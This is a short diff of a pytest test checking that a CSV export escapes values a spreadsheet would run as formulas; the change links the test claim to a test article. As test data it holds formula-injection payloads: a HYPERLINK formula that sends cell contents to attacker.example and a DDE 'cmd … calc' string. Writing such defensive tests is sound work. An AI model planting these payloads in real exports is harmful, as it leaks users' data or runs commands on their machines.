@@ -63,8 +63,8 @@ def test_export_filters_by_updated_since(exporter):
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_csv_export_escapes_text_that_a_spreadsheet_would_run_as_a_formula(exporter, start):
     formula = f'{start}HYPERLINK("https://attacker.example/?x="&A1,"Open")'
-    make_claim(statement=formula, figure_text=f"{start}1+1", value=-5, unit="t")
-    make_article(title=f"{start}cmd|' /C calc'!A0")
+    article = make_article(title=f"{start}cmd|' /C calc'!A0")
+    make_claim(articles=[article], statement=formula, figure_text=f"{start}1+1", value=-5, unit="t")
 
     claims = list(csv.DictReader(io.StringIO(body(exporter.get("/api/v1/export/claims.csv")))))
     assert claims[0]["statement"] == "'" + formula
